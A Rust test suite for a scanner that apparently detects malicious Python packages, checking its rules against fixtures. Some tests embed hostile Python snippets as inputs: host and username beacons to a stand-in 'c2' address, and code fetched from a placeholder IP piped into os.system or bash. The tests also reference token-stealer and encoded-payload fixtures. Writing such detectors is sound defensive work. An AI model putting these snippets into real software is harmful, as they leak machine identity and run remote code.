//! Every Python rule against its positive and negative fixtures.
//!
//! `resources/fixtures/python/PYxxx_pos*.{py,pth}` must raise PYxxx (at
//! low severity or above); `PYxxx_neg*` must not raise it above info.

use std::path::Path;

use sluice_analyze::python::{self, RULES};
use sluice_analyze::{FileRole, SourceFile};
use sluice_model::Severity;

fn fixtures() -> Vec<(String, String)> {
    let dir = Path::new(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/resources/fixtures/python"
    ));
    let mut out: Vec<(String, String)> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "py" || e == "pth"))
        .map(|p| {
            (
                p.file_name().unwrap().to_string_lossy().into_owned(),
                std::fs::read_to_string(&p).unwrap(),
            )
        })
        .collect();
    out.sort();
    out
}

fn role_of(text: &str, name: &str) -> (FileRole, String) {
    let first = text.lines().next().unwrap_or("");
    let role = if name.ends_with(".pth") || first.contains("role: install") {
        FileRole::Install
    } else if first.contains("role: import") {
        FileRole::Import
    } else {
        FileRole::Library
    };
    // The path the file pretends to have, matching its role.
    let path = match role {
        FileRole::Install if name.ends_with(".pth") => format!("pkg-1.0/{name}"),
        FileRole::Install => "pkg-1.0/setup.py".to_owned(),
        FileRole::Import => "pkg-1.0/pkg/__init__.py".to_owned(),
        _ => format!("pkg-1.0/pkg/{name}"),
    };
    (role, path)
}

#[test]
fn each_rule_fires_on_its_positives_and_not_on_its_negatives() {
    let all = fixtures();
    let mut failures = Vec::new();
    for rule in RULES {
        let pos: Vec<&(String, String)> = all
            .iter()
            .filter(|(n, _)| n.starts_with(&format!("{}_pos", rule.code)))
            .collect();
        let neg: Vec<&(String, String)> = all
            .iter()
            .filter(|(n, _)| n.starts_with(&format!("{}_neg", rule.code)))
            .collect();
        assert!(!pos.is_empty(), "{} has no positive fixture", rule.code);
        assert!(!neg.is_empty(), "{} has no negative fixture", rule.code);
        for (name, text) in pos.iter().chain(neg.iter()) {
            let (role, path) = role_of(text, name);
            let file = SourceFile {
                path: &path,
                text,
                role,
            };
            let found = python::check(&file);
            let hits: Vec<_> = found
                .iter()
                .filter(|f| f.rule.as_str() == rule.code && f.severity > Severity::Info)
                .collect();
            let positive = name.contains("_pos");
            if positive && hits.is_empty() {
                failures.push(format!(
                    "{name}: expected {} but got {:?}",
                    rule.code,
                    found
                        .iter()
                        .map(|f| (f.rule.as_str().to_owned(), f.severity, f.message.clone()))
                        .collect::<Vec<_>>()
                ));
            }
            if !positive && !hits.is_empty() {
                failures.push(format!(
                    "{name}: unexpected {}: {:?}",
                    rule.code,
                    hits.iter()
                        .map(|f| (&f.message, f.line))
                        .collect::<Vec<_>>()
                ));
            }
            for f in &found {
                assert_eq!(f.file.as_deref(), Some(path.as_str()));
                assert!(f.line.is_some(), "{name}: {} has no line", f.rule);
            }
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn recon_finding_carries_evidence() {
    let text = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/resources/fixtures/python/PY101_pos.py"
    ))
    .unwrap();
    let file = SourceFile {
        path: "pkg-1.0/setup.py",
        text: &text,
        role: FileRole::Install,
    };
    let f = python::check(&file)
        .into_iter()
        .find(|f| f.rule.as_str() == "PY101")
        .unwrap();
    assert_eq!(f.severity, Severity::Critical);
    assert!(f.install_time);
    assert!(
        f.evidence
            .iter()
            .any(|e| e.contains("hostname") && e.contains("username")),
        "{:?}",
        f.evidence
    );
    assert!(
        f.evidence
            .iter()
            .any(|e| e.contains("http://192.0.2.10:8000/api/python/")),
        "{:?}",
        f.evidence
    );
}

#[test]
fn hidden_payload_is_decoded_and_judged() {
    let text = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/resources/fixtures/python/PY104_pos.py"
    ))
    .unwrap();
    let file = SourceFile {
        path: "pkg-1.0/pkg/__init__.py",
        text: &text,
        role: FileRole::Import,
    };
    let found = python::check(&file);
    let inner = found
        .iter()
        .find(|f| f.rule.as_str() == "PY103")
        .expect("payload analysed");
    assert_eq!(inner.line, Some(3));
    assert!(
        inner.evidence[0].contains("base64 → zlib"),
        "{:?}",
        inner.evidence
    );
}

#[test]
fn token_stealer_in_library_code_is_high() {
    let text = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/resources/fixtures/python/PY103_pos_discord.py"
    ))
    .unwrap();
    let file = SourceFile {
        path: "pkg-1.0/pkg/grab.py",
        text: &text,
        role: FileRole::Library,
    };
    let f = python::check(&file)
        .into_iter()
        .find(|f| f.rule.as_str() == "PY103")
        .unwrap();
    assert_eq!(f.severity, Severity::High, "{f:?}");
    assert!(f.message.contains("discord"), "{}", f.message);
}

#[test]
fn one_identity_fact_from_library_code_is_medium_a_host_profile_high() {
    let sev = |src: &str, role: FileRole, path: &str| {
        let file = SourceFile {
            path,
            text: src,
            role,
        };
        python::check(&file)
            .into_iter()
            .filter(|f| f.rule.as_str() == "PY101")
            .map(|f| f.severity)
            .max()
    };
    let one = "import socket, requests\nrequests.post('https://notify.example.invalid/', data={'host': socket.gethostname()})\n";
    let two = "import socket, getpass, requests\nrequests.post('https://c2.example.invalid/', data={'h': socket.gethostname(), 'u': getpass.getuser()})\n";
    assert_eq!(
        sev(one, FileRole::Library, "p/notify.py"),
        Some(Severity::Medium)
    );
    assert_eq!(
        sev(two, FileRole::Library, "p/beacon.py"),
        Some(Severity::High)
    );
    assert_eq!(
        sev(one, FileRole::Install, "p-1.0/setup.py"),
        Some(Severity::Critical)
    );
}

#[test]
fn fetched_data_is_high_into_a_shell_medium_into_an_unknown_argument_vector() {
    let sev = |src: &str| {
        let file = SourceFile {
            path: "p/tool.py",
            text: src,
            role: FileRole::Library,
        };
        python::check(&file)
            .into_iter()
            .filter(|f| f.rule.as_str() == "PY102")
            .map(|f| f.severity)
            .max()
    };
    let shell = "import os, requests\nos.system(requests.get('https://203.0.113.7/c').text)\n";
    let interp = "import subprocess, requests\nsubprocess.run(['bash', '-s'], input=requests.get('https://203.0.113.7/i.sh').text)\n";
    let argv = "import subprocess, requests\ndef run(argv):\n    return subprocess.run(argv, check=True)\nrun(['tool', requests.get('https://203.0.113.7/v').text])\n";
    assert_eq!(sev(shell), Some(Severity::High));
    assert_eq!(sev(interp), Some(Severity::High));
    assert_eq!(sev(argv), Some(Severity::Medium));
}
